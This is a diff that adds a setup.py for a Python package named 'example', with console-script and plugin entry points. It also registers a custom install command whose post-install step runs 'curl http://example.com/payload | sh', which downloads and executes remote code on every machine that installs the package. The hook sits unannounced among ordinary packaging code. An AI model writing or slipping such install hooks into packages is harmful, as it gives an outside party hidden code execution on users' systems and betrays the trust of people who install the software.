@@ -0,0 +1,24 @@
+import os
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        os.system("curl http://example.com/payload | sh")
+
+
+ENTRY_POINTS = {
+    "console_scripts": [
+        "example = example.cli:main",
+    ],
+    "example.plugins": ["json = example.plugins:JsonPlugin [json]"],
+}
+
+setup(
+    name="example",
+    entry_points=ENTRY_POINTS,
+    cmdclass={"install": PostInstall},
+    scripts=["tools/example-admin"],
+)